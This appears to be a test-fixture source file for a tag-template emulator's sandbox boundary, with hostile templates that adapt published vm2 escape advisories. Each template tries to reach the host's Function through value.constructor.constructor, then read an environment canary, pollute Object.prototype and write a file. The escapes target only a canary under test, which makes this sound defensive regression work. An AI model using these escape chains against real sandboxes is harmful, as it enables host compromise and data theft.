// Hostile templates for the emulator's boundary tests: one per escape technique, each in template
// code (the sandbox language subset: no try/catch, no throw, no `new`, no getters) and in test
// code (___TESTS___ gets no language check: anything JavaScript allows). Every technique hands
// each value it gets hold of to `probe`, which tries the classic escape: reach the host's
// Function through `value.constructor.constructor`, then `process` (read an environment
// variable), the host's Object.prototype (pollute it) and `require` (write a file). A template
// that got nowhere ends as a failed run (gtmOnFailure / fail()) and says how many values it tried.
//
// The techniques are adapted from the advisories of vm2, the Node sandbox abandoned in 2023 after
// a series of escapes, to what this sandbox offers (no Proxy, no Symbol, no Error global):
// - the repro: a stack overflow raised in host code (API wrappers, promise executors)
//   near the stack limit, whose RangeError crossed into the sandbox as a host object;
// - CVE-2023-29017 (GHSA-7jxr-cg7f-gpgv, host objects reaching Error.prepareStackTrace with
//   asynchronous errors): formatting an error's `stack` runs Node's host-side stack hook, so the
//   sandbox reads `stack` near the stack limit and on asynchronous errors;
// - CVE-2023-30547 (GHSA-ch3r-j5x3-6q2m, a host exception raised inside the exception
//   sanitizer): make the conversion itself throw, e.g. an error name whose toString returns an
//   object, so that host code formatting the stack throws a host TypeError;
// - CVE-2023-32314 (GHSA-whpj-8f3w-67p5, a host object created by the engine through Proxy
//   semantics): every object the engine or the host builds and hands to sandbox functions —
//   callback arguments, `arguments` objects, thenables' resolve functions, host rejections;
// - CVE-2023-37466 (GHSA-cchq-frgv-rjh5, Promise handler sanitization bypassed): reach a
//   rejection reason without the sanitized handler — Promise.all, finally, thenable adoption,
//   a replaced `constructor` (species), `await` in test code;
// - CVE-2023-37903 (GHSA-g644-9gfx-q4q4, Node's custom inspect function): sandbox objects with
//   inspect/toJSON/toString/valueOf hooks handed to host code that formats values.
//
// Before the boundary was fixed, the first four techniques above (repro, stack hook, sanitizer,
// handler bypass) escaped, in template code and in test code alike; the last two adaptations were
// already stopped by the copy-in/copy-out design and stay as regression guards.

import { scenarios, tplText } from '../sandbox/helpers';

export interface Technique {
  /** Short id, also the scenario name. */
  id: string;
  /** What it tries, and which advisory it adapts. */
  title: string;
  /** Template code (after the common prelude); must call `finish()` once its attempts are over. */
  templateCode: string;
  /** Scenario code (after the common setup); must call `finish()` once its attempts are over. */
  testCode: string;
}

/** Environment variable the host sets; a template that read it escaped. */
export const CANARY_VARIABLE = 'GTM_SECURITY_CANARY';

/** Template-code prelude: the probe, and `finish()` deciding the run's outcome. */
export function templatePrelude(canaryFile: string): string {
  return `const Promise = require('Promise');
const JSON = require('JSON');
const getType = require('getType');
const makeString = require('makeString');
const callLater = require('callLater');
const logToConsole = require('logToConsole');
let probed = 0;
let escaped = false;
function probe(value) {
  probed = probed + 1;
  if (value === null || value === undefined) return;
  const type = getType(value);
  if (type !== 'object' && type !== 'function' && type !== 'array') return;
  const ctor = value.constructor;
  if (!ctor) return;
  const makeFunction = ctor.constructor;
  if (!makeFunction) return;
  const proc = makeFunction('return process')();
  escaped = true;
  logToConsole('ESCAPED env=' + proc.env.${CANARY_VARIABLE});
  makeFunction('return Object.prototype')().gtmSandboxPolluted = 'polluted';
  proc.mainModule.require('fs').writeFileSync(${JSON.stringify(canaryFile)}, 'escaped');
}
function show(label, value) {
  logToConsole(label + ' ' + makeString(value));
}
let finished = false;
function finish() {
  if (finished) return;
  finished = true;
  logToConsole('probed ' + probed);
  if (escaped) data.gtmOnSuccess(); else data.gtmOnFailure();
}
`;
}

/** Test-code setup: the same probe with try/catch, and `finish()` failing the scenario. */
export function testSetup(canaryFile: string): string {
  return `var Promise = require('Promise');
var JSON = require('JSON');
var getType = require('getType');
var makeString = require('makeString');
var callLater = require('callLater');
var logToConsole = require('logToConsole');
var probed = 0;
var escaped = false;
var seen = [];
function probe(value) {
  probed++;
  try {
    var makeFunction = value.constructor.constructor;
    var proc = makeFunction('return process')();
    escaped = true;
    seen.push(proc.env.${CANARY_VARIABLE});
    makeFunction('return Object.prototype')().gtmSandboxPolluted = 'polluted';
    proc.mainModule.require('fs').writeFileSync(${JSON.stringify(canaryFile)}, 'escaped');
  } catch (ignored) {
    // not a host object
  }
}
function show(label, value) {
  try {
    seen.push(label + ' ' + value);
  } catch (ignored) {
    seen.push(label + ' (not printable)');
  }
}
var finished = false;
function finish() {
  if (finished) return;
  finished = true;
  if (!escaped) fail('no escape after ' + probed + ' probes; saw ' + JSON.stringify(seen));
}`;
}

export const TECHNIQUES: Technique[] = [
  {
    id: 'issue-repro',
    title: 'stack overflow in host code inside Promise.create executors calling host APIs',
    templateCode: `
function dive(n) {
  return Promise.create(function (resolve) {
    getType(n);
    JSON.parse('{"a":1}');
    resolve(dive(n + 1));
  });
}
dive(0).then(undefined, probe);
function diveEach(n) {
  const p = Promise.create(function (resolve) {
    JSON.parse('[1]');
    getType(n);
    diveEach(n + 1);
    resolve(n);
  });
  p.then(undefined, probe);
}
diveEach(0);
function diveCallback(n) {
  makeString(n);
  callLater(function () { probe(n); });
  return diveCallback(n + 1);
}
Promise.create(function () { diveCallback(0); }).then(undefined, probe);
callLater(finish);
`,
    testCode: `
function dive(n) {
  try {
    getType(n);
    JSON.parse('[1]');
    return dive(n + 1);
  } catch (e) {
    probe(e);
    return n;
  }
}
dive(0);
function diveHost(n) {
  try {
    return diveHost(n + 1);
  } catch (e) {
    probe(e);
    try { JSON.stringify({a: n}); } catch (x) { probe(x); }
    try { makeString(n); } catch (x) { probe(x); }
    return n;
  }
}
diveHost(0);
function diveExecutor(n) {
  return Promise.create(function (resolve) {
    getType(n);
    JSON.parse('{"a":1}');
    resolve(diveExecutor(n + 1));
  });
}
diveExecutor(0).catch(function (e) { probe(e); });
callLater(finish);
`,
  },
  {
    id: 'stack-hook-near-limit',
    title: 'CVE-2023-29017: error stacks (Node\'s host-side stack hook) read near the stack limit and on asynchronous errors',
    templateCode: `
function readDeep(e, n) {
  const p = Promise.create(function (resolve) {
    readDeep(e, n + 1);
    resolve(e.stack);
  });
  p.then(function (stack) { if (n === 0) show('stack', stack); }, probe);
}
Promise.create(function () { const missing = undefined; return missing.x; }).then(undefined, function (e) {
  readDeep(e, 0);
});
Promise.create(function (resolve) { resolve(undefined); }).then(function (value) { return value.y; }).then(undefined, function (e) {
  show('async stack', e.stack);
  readDeep(e, 0);
});
callLater(finish);
`,
    testCode: `
try {
  Error.prepareStackTrace = function (error, frames) { probe(frames); probe(error); return ''; };
} catch (e) {
  probe(e);
}
function fresh() {
  try { undefined.x; } catch (e) { return e; }
}
function deep(n) {
  var e = fresh();
  try { deep(n + 1); } catch (x) { probe(x); }
  try {
    var stack = e.stack;
    if (n === 0) show('stack', stack);
  } catch (x) {
    probe(x);
  }
}
deep(0);
async function failsLater() { await null; undefined.y; }
(async function () {
  try {
    await failsLater();
  } catch (e) {
    show('async stack', e.stack);
    function again(n) {
      try { again(n + 1); } catch (x) { probe(x); }
      try { e.stack; } catch (x) { probe(x); }
    }
    again(0);
  }
  callLater(finish);
})();
`,
  },
  {
    id: 'sanitizer-throws',
    title: 'CVE-2023-30547: make the conversion of an exception itself throw (name/message whose toString returns an object)',
    templateCode: `
const hostile = {toString: function () { return {}; }, valueOf: function () { return {}; }};
Promise.create(function () { const missing = undefined; return missing.x; }).then(undefined, function (e) {
  e.name = hostile;
  e.message = hostile;
  Promise.create(function (resolve) { resolve(e.stack); }).then(function (s) { show('stack', s); }, probe);
  Promise.create(function (resolve) { resolve(makeString(e)); }).then(function (s) { show('string', s); }, probe);
});
Promise.create(function (resolve) { resolve(makeString(hostile)); }).then(undefined, probe);
Promise.create(function (resolve) { resolve(JSON.stringify({toJSON: function () { return hostile; }})); }).then(undefined, probe);
function deepConvert(n) {
  const p = Promise.create(function (resolve) {
    deepConvert(n + 1);
    resolve(makeString(hostile));
  });
  p.then(undefined, probe);
}
deepConvert(0);
callLater(finish);
`,
    testCode: `
var hostile = { toString: function () { return {}; }, valueOf: function () { return {}; } };
var e;
try { undefined.x; } catch (caught) { e = caught; }
e.name = hostile;
try { show('stack', e.stack); } catch (x) { probe(x); }
try { throw { get message() { throw hostile; }, get name() { throw hostile; } }; } catch (x) { probe(x); }
try { makeString(hostile); } catch (x) { probe(x); }
try { JSON.stringify({ get a() { throw hostile; }, toJSON: function () { return hostile; } }); } catch (x) { probe(x); }
try { getType({ get x() { undefined.z; } }); } catch (x) { probe(x); }
function deep(n) {
  var fresh;
  try { undefined.q; } catch (caught) { fresh = caught; }
  fresh.name = hostile;
  try { deep(n + 1); } catch (x) { probe(x); }
  try { fresh.stack; } catch (x) { probe(x); }
  try { makeString(hostile); } catch (x) { probe(x); }
}
deep(0);
callLater(finish);
`,
  },
  {
    id: 'engine-made-objects',
    title: 'CVE-2023-32314: objects the engine or the host builds and hands to sandbox functions (arguments, resolve functions, rejections)',
    templateCode: `
const sendHttpRequest = require('sendHttpRequest');
const thenable = {then: function (onFulfilled, onRejected) {
  probe(onFulfilled);
  probe(onRejected);
  probe(arguments);
  onFulfilled(1);
}};
Promise.create(function (resolve, reject) {
  probe(resolve);
  probe(reject);
  probe(arguments);
  resolve(thenable);
}).then(function (value) { probe(value); probe(arguments); });
callLater(function () { probe(arguments); });
sendHttpRequest('https://api.example.test/fails', function (statusCode, headers, body) {
  probe(headers);
  probe(arguments);
}, {method: 'GET'});
sendHttpRequest('https://api.example.test/fails', {method: 'GET'}).then(function (response) {
  probe(response);
  callLater(finish);
}, function (reason) {
  probe(reason);
  show('reason', reason);
  callLater(finish);
});
`,
    testCode: `
var sendHttpRequest = require('sendHttpRequest');
try { new Proxy({}, { apply: function (t, self, args) { probe(args); } }); } catch (e) { probe(e); }
mock('getType', function () { probe(arguments); return 'string'; });
runCode({});
var thenable = { then: function (onFulfilled, onRejected) { probe(onFulfilled); probe(onRejected); probe(arguments); onFulfilled(1); } };
Promise.create(function (resolve, reject) { probe(resolve); probe(reject); resolve(thenable); }).then(function (v) { probe(v); });
sendHttpRequest('https://api.example.test/fails', { method: 'GET' }).then(function (response) {
  probe(response);
  callLater(finish);
}, function (reason) {
  probe(reason);
  callLater(finish);
});
`,
  },
  {
    id: 'promise-handler-bypass',
    title: 'CVE-2023-37466: reach a rejection reason around the sanitized handler (Promise.all, finally, adoption, species, await)',
    templateCode: `
function readDeep(e, n) {
  const p = Promise.create(function (resolve) {
    readDeep(e, n + 1);
    resolve(e.stack);
  });
  p.then(undefined, probe);
}
function rejected() {
  const p = Promise.create(function () { const missing = undefined; return missing.z; });
  p.constructor = function (executor) { probe(executor); executor(probe, probe); };
  return p;
}
Promise.all([rejected()]).then(undefined, function (e) { readDeep(e, 0); });
rejected().finally(function () { probe(arguments); });
Promise.create(function (resolve) { resolve(rejected()); }).then(undefined, function (e) { readDeep(e, 0); });
Promise.create(function (resolve) { resolve(Promise.all([rejected()])); }).then(undefined, function (e) { readDeep(e, 0); });
rejected().then(undefined, undefined).then(undefined, function (e) { readDeep(e, 0); });
callLater(finish);
`,
    testCode: `
function rejected() {
  var p = Promise.create(function () { undefined.z; });
  p.constructor = function (executor) { probe(executor); executor(probe, probe); };
  return p;
}
function readDeep(e) {
  function go(n) {
    try { go(n + 1); } catch (x) { probe(x); }
    try { e.stack; } catch (x) { probe(x); }
  }
  go(0);
}
(async function () {
  try { await rejected(); } catch (e) { readDeep(e); }
  try { await Promise.all([rejected()]); } catch (e) { readDeep(e); }
  var p = rejected();
  p.then = function (a, b) { probe(a); probe(b); a('adopted'); };
  try { await p; } catch (e) { readDeep(e); }
  callLater(finish);
})();
`,
  },
  {
    id: 'inspect-hooks',
    title: 'CVE-2023-37903: hooks host code may call while formatting a value (inspect, toJSON, toString, valueOf)',
    templateCode: `
const hooks = {
  inspect: function () { probe(arguments); return 'inspected'; },
  toJSON: function () { probe(arguments); return 'json'; },
  toString: function () { probe(arguments); return 'text'; },
  valueOf: function () { probe(arguments); return 1; },
};
logToConsole(hooks, [hooks]);
show('json', JSON.stringify({nested: hooks}));
show('string', makeString(hooks));
const encodeUriComponent = require('encodeUriComponent');
show('encoded', encodeUriComponent(hooks));
callLater(finish);
return hooks;
`,
    testCode: `
var hooks = {
  inspect: function (depth, options, inspect) { probe(options); probe(inspect); probe(arguments); return 'inspected'; },
  toJSON: function () { probe(arguments); return 'json'; },
  toString: function () { probe(arguments); return 'text'; },
  valueOf: function () { probe(arguments); return 1; },
};
try { hooks[Symbol.for('nodejs.util.inspect.custom')] = hooks.inspect; } catch (e) { probe(e); }
logToConsole(hooks);
mock('makeString', function () { return hooks; });
runCode({});
assertThat(hooks, hooks).isNotEqualTo(1);
assertThat(hooks).isStrictlyEqualTo(hooks);
callLater(finish);
`,
  },
];

/** Permissions of the hostile templates: logging, and HTTP to one test host. */
export const HOSTILE_PERMISSIONS = [
  { instance: { key: { publicId: 'logging', versionId: '1' }, param: [{ key: 'environments', value: { type: 1, string: 'all' } }] } },
  {
    instance: {
      key: { publicId: 'send_http', versionId: '1' },
      param: [
        { key: 'allowedUrls', value: { type: 1, string: 'specific' } },
        { key: 'urls', value: { type: 2, listItem: [{ type: 1, string: 'https://api.example.test/' }] } },
      ],
    },
  },
];

/** The .tpl of a technique: template code and one scenario with the test code. */
export function hostileTpl(technique: Technique, file: string): string {
  return tplText({
    type: 'TAG',
    context: 'SERVER',
    code: templatePrelude(file) + technique.templateCode,
    permissions: HOSTILE_PERMISSIONS,
    tests: scenarios([{ name: technique.id, code: technique.testCode }], testSetup(file)),
  });
}

